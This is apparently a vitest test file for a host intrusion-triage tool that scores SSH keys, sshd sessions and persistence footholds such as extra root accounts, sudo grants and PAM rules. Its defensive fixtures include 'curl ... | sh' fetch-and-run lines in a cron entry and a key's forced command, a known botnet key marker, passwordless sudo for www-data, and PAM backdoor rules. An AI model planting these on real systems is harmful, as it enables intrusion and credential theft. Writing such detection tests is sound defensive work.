// Who may come in, judged: a stranger's key is a question and not a verdict, the intruder's open session is told by its connection, and ways to become root
// are told and never acted on.
import { describe, expect, it } from 'vitest'
import { ownText } from '../../host-text.ts'
import type {
  AccountFact,
  AuthorizedKeyFact,
  Fact,
  LoginFact,
  PamRuleFact,
  SshdSettingFact,
  SudoRuleFact,
} from '../../probes/facts.ts'
import { aFile, aListener, aLogin, aProcess, aSchedule, aSocket, meta } from '../fixtures/facts.ts'
import { found, judged, signalsOf } from '../fixtures/judging.ts'

const print = (letter: string): string => `SHA256:${letter.repeat(43)}`
let nextLine = 1

function aKey(
  change: Partial<Omit<AuthorizedKeyFact, 'comment' | 'options' | 'account'>> & {
    comment?: string
    options?: string
    account?: string
    flags?: string
  } = {},
): AuthorizedKeyFact {
  const { comment = 'friend@desk', options, account = 'root', flags = '', ...rest } = change
  const line = nextLine++
  return {
    kind: 'authorized-key',
    account: ownText(account),
    uid: account === 'root' ? 0 : 9,
    others: [],
    systemAccount: false,
    file: meta(`/home/${account}/.ssh/authorized_keys`, { flags }),
    line,
    raw: ownText(`ssh-ed25519 AAAA${String(line)} ${comment}`),
    keyType: ownText('ssh-ed25519'),
    fingerprint: print(String.fromCharCode(64 + (line % 26) + 1)),
    options: options === undefined ? null : ownText(options),
    comment: ownText(comment),
    effective: 'yes',
    ...rest,
  }
}
const keysOf = (...facts: readonly Fact[]) => found(judged(facts), 'key')

describe('a key', () => {
  it('that nobody can place is listed, and neither proposed nor worth a verdict', () => {
    const one = judged([aKey()])
    expect(found(one, 'key')).toMatchObject([{ title: 'key.unknown', score: 0, proposed: 'no' }])
    expect(one.verdict).not.toBe('suspect')
  })

  it('with the mark of a gang is proposed where something else speaks against it as well', () => {
    expect(keysOf(aKey({ comment: 'mdrfckr' }))).toMatchObject([{ score: 80, proposed: 'no', title: 'key.hostile' }])
    expect(keysOf(aKey({ comment: 'mdrfckr', flags: 'ia' }))).toMatchObject([
      { proposed: 'yes', tags: ['hostile-key'] },
    ])
    expect(keysOf(aKey({ comment: 'not-mdrfckrs-friend' }))).toMatchObject([{ score: 0 }])
  })

  it('whose bytes are a known intruder’s is proposed alone, whatever its comment', () => {
    const known = 'SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw'
    expect(keysOf(aKey({ fingerprint: known, comment: 'admin@office' }))).toMatchObject([{ proposed: 'yes' }])
  })

  it('of one person on all accounts, in a locked file, is still a question', () => {
    const same = { fingerprint: print('Z'), flags: 'i' }
    for (const one of keysOf(aKey(same), aKey({ ...same, account: 'deploy' })))
      expect(one).toMatchObject({ proposed: 'no', title: 'key.unknown' })
  })

  it('that may run one command only is what backups come with, also for an account of the system', () => {
    const backup = { account: 'backup', systemAccount: true, options: 'command="borg serve",restrict' }
    expect(keysOf(aKey(backup))[0]).toMatchObject({ proposed: 'no', score: 20 })
    expect(keysOf(aKey({ account: 'news', systemAccount: true }))[0]).toMatchObject({ score: 55, proposed: 'no' })
    const fetching = { ...backup, options: 'command="curl http://203.0.113.9/x | sh"' }
    expect(signalsOf(keysOf(aKey(fetching))[0])).toContain('key-runs-command')
  })

  it('that does not parse is told as no key', () => {
    expect(keysOf(aKey({ fingerprint: null }))).toMatchObject([{ title: 'key.unreadable', proposed: 'no' }])
  })
})

describe('an open session', () => {
  const from = '203.0.113.66'
  const sshd = '/usr/sbin/sshd'
  const door = (pid: number, address: string, port = 40_000 + pid) => [
    aProcess(pid, sshd, { ppid: 500, cmdline: 'sshd: root@notty', cgroup: `/user.slice/session-${String(pid)}.scope` }),
    aSocket(pid, address, port, { localPort: 22 }),
    aProcess(pid + 1, '/usr/bin/bash', { ppid: pid, cgroup: '/user.slice' }),
  ]
  const server = [
    aProcess(500, sshd),
    aListener(500, 22),
    aFile(sshd, 'openssh-server'),
    aFile('/usr/bin/bash', 'bash'),
  ]
  const guessed = [aLogin('failed-burst', 40), aLogin('accepted-after-burst', 1)]
  const cron = aSchedule('/etc/cron.d/x', 1, 'curl -s http://203.0.113.9/a.sh | sh')
  const hostileOf = (...facts: readonly Fact[]): number[] =>
    found(judged(facts), 'process').flatMap(({ proposed, target }) =>
      proposed === 'yes' && target.kind === 'process' ? [target.identity.pid] : [],
    )

  it('from where passwords were guessed is proposed with everything started in it; nobody else’s is', () => {
    const facts = [...server, ...door(600, from), ...door(700, '203.0.113.77'), ...guessed, cron]
    expect(hostileOf(...facts).sort()).toEqual([600, 601])
  })

  it('on a host where nothing else is wrong is a person who mistyped', () => {
    expect(hostileOf(...server, ...door(600, from), ...guessed)).toEqual([])
  })

  it('after a handful of failures is a person too', () => {
    const few = [aLogin('failed-burst', 7), aLogin('accepted-after-burst', 1)]
    expect(hostileOf(...server, ...door(600, from), ...few, cron)).toEqual([])
  })

  it('is never ours, nor anybody’s who comes from where we come from', () => {
    const [own, socket, shell] = door(800, from)
    const ours = [{ ...own!, ours: true }, socket!, { ...shell!, ours: true }] as Fact[]
    expect(hostileOf(...server, ...door(600, from), ...ours, ...guessed, cron)).toEqual([])
  })

  it('that came in with a hostile key is told by address and port, even beside us', () => {
    const key = aKey({ comment: 'mdrfckr', flags: 'ia' })
    const login: LoginFact = {
      ...aLogin('accepted', 2),
      sessions: [
        { port: 40_600, key: key.fingerprint },
        { port: 40_700, key: print('b') },
      ],
    }
    const [own, socket, shell] = door(800, from)
    const ours = [{ ...own!, ours: true }, socket!, { ...shell!, ours: true }] as Fact[]
    const facts = [...server, ...door(600, from), ...door(700, from), ...ours, login, key]
    expect(hostileOf(...facts).sort()).toEqual([600, 601])
  })

  it('never makes the server itself a suspect', () => {
    expect(hostileOf(...server, aSocket(500, from, 40_001, { localPort: 22 }), ...guessed, cron)).toEqual([])
  })
})

describe('ways to come back', () => {
  const account = (name: string, change: Partial<AccountFact> = {}): AccountFact => ({
    kind: 'account',
    file: meta('/etc/passwd'),
    line: 1,
    raw: ownText(`${name}:x`),
    name: ownText(name),
    uid: 1000,
    gid: 1000,
    home: ownText(`/home/${name}`),
    shell: ownText('/bin/bash'),
    password: 'set',
    passwordDay: 20_000,
    login: 'yes',
    shellListed: 'yes',
    powerfulGroups: [],
    inBackup: 'yes',
    ...change,
  })
  const grant = (who: string, change: Partial<SudoRuleFact> = {}): SudoRuleFact => ({
    kind: 'sudo-rule',
    file: meta('/etc/sudoers.d/x', { mode: '0440' }),
    line: 1,
    raw: ownText(`${who} ALL=(ALL) NOPASSWD: ALL`),
    who: ownText(who),
    commands: ownText('ALL'),
    noPassword: true,
    skipped: false,
    ...change,
  })
  const setting = (keyword: string, value: string): SshdSettingFact => ({
    kind: 'sshd-setting',
    file: meta('/etc/ssh/sshd_config'),
    line: 1,
    raw: ownText(`${keyword} ${value}`),
    keyword,
    value: ownText(value),
    match: null,
  })
  const rule = (change: Partial<PamRuleFact>): PamRuleFact => ({
    kind: 'pam-rule',
    file: meta('/etc/pam.d/sshd'),
    line: 3,
    raw: ownText('session optional pam_exec.so /usr/local/bin/tell'),
    type: 'session',
    module: ownText('pam_exec.so'),
    modulePath: null,
    owned: 'yes',
    program: ownText('/usr/local/bin/tell'),
    openDoor: false,
    ...change,
  })

  it('are told and never proposed, however bad', () => {
    const worst = [
      account('sysadm', { uid: 0, inBackup: 'no' }),
      account('open', { password: 'empty' }),
      account('news', { uid: 9, shell: ownText('/usr/sbin/nologin ') }),
      grant('www-data'),
      grant('ALL'),
      rule({ openDoor: true, program: null, module: ownText('pam_permit.so') }),
      rule({ raw: ownText('auth optional pam_exec.so expose_authtok /usr/local/lib/.x') }),
    ]
    const told = judged(worst).findings.filter(({ kind }) => ['account', 'sudo', 'pam'].includes(kind))
    expect(told).toHaveLength(worst.length)
    for (const one of told) {
      expect(one.score).toBeGreaterThanOrEqual(60)
      expect(one.proposed).toBe('no')
    }
  })

  it('leave people and services alone that every host has', () => {
    const usual = [
      account('root', { uid: 0 }),
      account('alice', { powerfulGroups: [ownText('sudo')] }),
      account('daemon', { uid: 1, login: 'no', password: 'locked', shell: ownText('/usr/sbin/nologin') }),
      account('postgres', { uid: 105, password: 'locked' }),
      grant('root', { noPassword: false }),
      grant('%sudo', { noPassword: false }),
      grant('deploy', { commands: ownText('/usr/bin/systemctl restart app') }),
      setting('authorizedkeysfile', '.ssh/authorized_keys .ssh/authorized_keys2'),
      setting('permitrootlogin', 'yes'),
      setting('subsystem', 'sftp /usr/lib/openssh/sftp-server'),
      setting('authorizedkeyscommand', '/usr/bin/sss_ssh_authorizedkeys %u'),
    ]
    expect(judged(usual).findings).toEqual([])
  })

  it('a spare root of old that cannot log in is a note', () => {
    const toor = account('toor', { uid: 0, password: 'locked', inBackup: 'no' })
    expect(found(judged([toor]), 'account')).toMatchObject([{ score: 35, title: 'account.second-root' }])
  })

  it('a rule under a name that sudo skips grants nothing', () => {
    expect(found(judged([grant('www-data', { skipped: true })]), 'sudo')).toEqual([])
  })
})
